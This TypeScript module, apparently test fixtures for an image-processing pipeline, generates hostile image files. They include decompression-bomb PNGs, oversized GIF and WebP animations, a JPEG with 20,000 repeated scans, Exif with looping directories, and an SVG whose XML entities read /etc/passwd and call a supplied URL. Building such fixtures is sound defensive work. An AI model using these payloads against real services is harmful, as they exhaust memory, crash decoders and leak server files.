import { crc32, deflateRawSync, constants } from 'node:zlib'
import sharp from 'sharp'

/** Pictures made to break whoever opens them, by name. Each is small; what it claims to be is not. */
export async function makeBombs(linkTo: string): Promise<ReadonlyMap<string, Buffer>> {
  const camera = await photo(1200, 900)
  return new Map([
    // Far more pixels than any camera has, all of them really there.
    ['pixels.png', png({ width: 50_000, height: 50_000, bits: 1, colour: 0, interlaced: false })],
    // Few enough pixels, but 1.5 GB once unpacked.
    ['memory.png', png({ width: 14_000, height: 14_000, bits: 16, colour: 6, interlaced: true })],
    ['scans.jpg', await manyScans()],
    ['animation.webp', await longAnimation()],
    ['pixels.gif', gif()],
    ['outside.svg', svg(linkTo)],
    ['svg-inside.png', svg(linkTo)],
    ['cut.jpg', (await photo(4000, 3000)).subarray(0, 40_000)],
    ['lying.jpg', withLyingExif(camera)],
    ['noise.jpg', Buffer.alloc(100_000, 'noise')],
    [
      'noise.avif',
      Buffer.concat([Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1'), Buffer.alloc(9000, 'x')]),
    ],
    ['empty.jpg', Buffer.alloc(0)],
  ])
}

/** A picture that any program can show. */
export function photo(width: number, height: number): Promise<Buffer> {
  const noise = { type: 'gaussian' as const, mean: 128, sigma: 30 }
  return sharp({ create: { width, height, channels: 3, background: 'teal', noise } })
    .jpeg()
    .toBuffer()
}

interface Png {
  readonly width: number
  readonly height: number
  readonly bits: number
  /** 0 grey, 6 red, green, blue and alpha (PNG, 11.2.1). */
  readonly colour: 0 | 6
  readonly interlaced: boolean
}

/** A black PNG (https://www.w3.org/TR/png-3) of any size, made without ever having its pixels. */
function png({ width, height, bits, colour, interlaced }: Png): Buffer {
  const pixelBits = bits * (colour === 6 ? 4 : 1)
  const rowBytes = (columns: number) => (columns === 0 ? 0 : 1 + Math.ceil((columns * pixelBits) / 8))
  // Adam7 (PNG, 8.1): first column and row of each pass, and the steps between.
  const adam7 = [
    [0, 0, 8, 8],
    [4, 0, 8, 8],
    [0, 4, 4, 8],
    [2, 0, 4, 4],
    [0, 2, 2, 4],
    [1, 0, 2, 2],
    [0, 1, 1, 2],
  ] as const
  const passes = interlaced ? adam7 : ([[0, 0, 1, 1]] as const)
  const total = passes.reduce(
    (sum, [x, y, dx, dy]) => sum + rowBytes(Math.ceil((width - x) / dx)) * Math.ceil((height - y) / dy),
    0,
  )
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([bits, colour, 0, 0, interlaced ? 1 : 0], 8)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', zeros(total)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const ends = Buffer.alloc(8)
  ends.writeUInt32BE(data.length, 0)
  ends.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)])
}

/** A zlib stream (RFC 1950) of so many zero bytes: one packed block over and over. */
function zeros(count: number): Buffer {
  const size = 1024 * 1024
  const block = deflateRawSync(Buffer.alloc(size), { finishFlush: constants.Z_FULL_FLUSH })
  const blocks = Array.from({ length: Math.floor(count / size) }, () => block)
  const adler = Buffer.alloc(4)
  adler.writeUInt16BE(count % 65_521, 0)
  adler.writeUInt16BE(1, 2)
  return Buffer.concat([
    Buffer.from([0x78, 0x01]),
    ...blocks,
    deflateRawSync(Buffer.alloc(count % size)),
    adler,
  ])
}

/** A progressive JPEG in which one scan comes 20,000 times: a few bytes each, all blocks of the picture to go through. */
async function manyScans(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 6000, height: 6000, channels: 3, background: 'teal' } })
    .jpeg({ progressive: true })
    .toBuffer()
  const last = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]))
  const scan = jpeg.subarray(last, -2)
  return Buffer.concat([
    jpeg.subarray(0, -2),
    ...Array.from({ length: 20_000 }, () => scan),
    jpeg.subarray(-2),
  ])
}

/** An animated WebP (RFC 9649) of 5,000 frames of 16 million pixels. */
async function longAnimation(): Promise<Buffer> {
  const side = 4000
  const still = await sharp({ create: { width: side, height: side, channels: 3, background: 'teal' } })
    .webp({ lossless: true, effort: 0 })
    .toBuffer()
  // Behind RIFF, its length and WEBP.
  const picture = still.subarray(12)
  const size = uint24(side - 1)
  const frame = riffChunk(
    'ANMF',
    Buffer.concat([uint24(0), uint24(0), size, size, uint24(40), Buffer.of(0), picture]),
  )
  const canvas = riffChunk('VP8X', Buffer.concat([Buffer.of(0x02, 0, 0, 0), size, size]))
  const animation = riffChunk('ANIM', Buffer.alloc(6))
  const frames = Array.from({ length: 5000 }, () => frame)
  return riffChunk('RIFF', Buffer.concat([Buffer.from('WEBP'), canvas, animation, ...frames]))
}

function uint24(value: number): Buffer {
  return Buffer.of(value & 0xff, (value >> 8) & 0xff, value >> 16)
}

function riffChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8)
  head.write(type, 'latin1')
  head.writeUInt32LE(data.length, 4)
  return Buffer.concat([head, data, Buffer.alloc(data.length % 2)])
}

/** A GIF89a of 65,535 by 65,535 with next to nothing in it. */
function gif(): Buffer {
  const size = [0xff, 0xff, 0xff, 0xff]
  const screen = [...size, 0x80, 0, 0, 0, 0, 0, 255, 255, 255]
  const picture = [0x2c, 0, 0, 0, 0, ...size, 0, 2, 2, 0x44, 0x01, 0, 0x3b]
  return Buffer.concat([Buffer.from('GIF89a'), Buffer.from([...screen, ...picture])])
}

/** A program in the form of a picture: it asks for files of the computer, and for an address. */
function svg(linkTo: string): Buffer {
  return Buffer.from(`<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY web SYSTEM "${linkTo}entity">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="400">
  <image xlink:href="${linkTo}image" width="400" height="400"/><image href="file:///etc/passwd" width="9" height="9"/>
  <style>@import url("${linkTo}style");</style><text y="50">&secret;&web;</text>
</svg>`)
}

/** Exif whose directories point into themselves and whose thumbnail is 4 GB behind the end of the file. */
function withLyingExif(jpeg: Buffer): Buffer {
  const entry = (tag: number, value: number) => {
    const bytes = Buffer.alloc(12)
    bytes.writeUInt16LE(tag, 0)
    bytes.writeUInt16LE(4, 2)
    bytes.writeUInt32LE(1, 4)
    bytes.writeUInt32LE(value, 8)
    return bytes
  }
  const directory = (next: number, ...entries: readonly Buffer[]) =>
    Buffer.concat([Buffer.of(entries.length, 0), ...entries, Buffer.of(next, 0, 0, 0)])
  const first = directory(26, entry(0x8769, 8))
  const second = directory(26, entry(0x0201, 0xfffffff0), entry(0x0202, 0xffffffff))
  const tiff = Buffer.concat([Buffer.from('II*\0\x08\0\0\0'), first, second])
  const body = Buffer.concat([Buffer.from('Exif\0\0'), tiff])
  const head = Buffer.of(0xff, 0xe1, 0, body.length + 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, body, jpeg.subarray(2)])
}
